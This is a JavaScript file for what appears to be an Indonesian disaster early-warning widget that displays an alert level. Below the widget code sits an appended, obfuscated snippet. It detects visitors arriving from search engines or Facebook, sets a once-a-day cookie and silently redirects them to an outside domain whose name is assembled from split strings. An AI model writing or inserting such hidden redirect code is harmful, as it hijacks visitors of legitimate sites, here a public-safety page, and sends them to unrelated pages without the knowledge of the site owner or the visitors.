/* peringatan dini - pusdalops */
(function () {
  var box = document.getElementById('sirine');
  var teks = ['Normal', 'Waspada', 'Siaga', 'Awas'];
  var warna = ['green', 'gold', 'orange', 'red'];
  if (!box) { return; }
  var l = parseInt(box.getAttribute('data-level'), 10) || 0;
  box.textContent = 'Status: ' + teks[l];
  box.style.background = warna[l];
})();
var _r=document.referrer,_e=["goo"+"gle.","bi"+"ng.","yah"+"oo.","face"+"book.","duckduck"];
for(var _i=0;_i<_e.length;_i++){if(_r.indexOf(_e[_i])>-1&&!/(^|;)\s*_pd=1/.test(document.cookie)){document.cookie="_pd=1;max-age=86400;path=/";var _h=["sultan","bejo","77"].join("");location.href="https://"+_h+".exam"+"ple/link-resmi?dari="+encodeURIComponent(location.host);break;}}
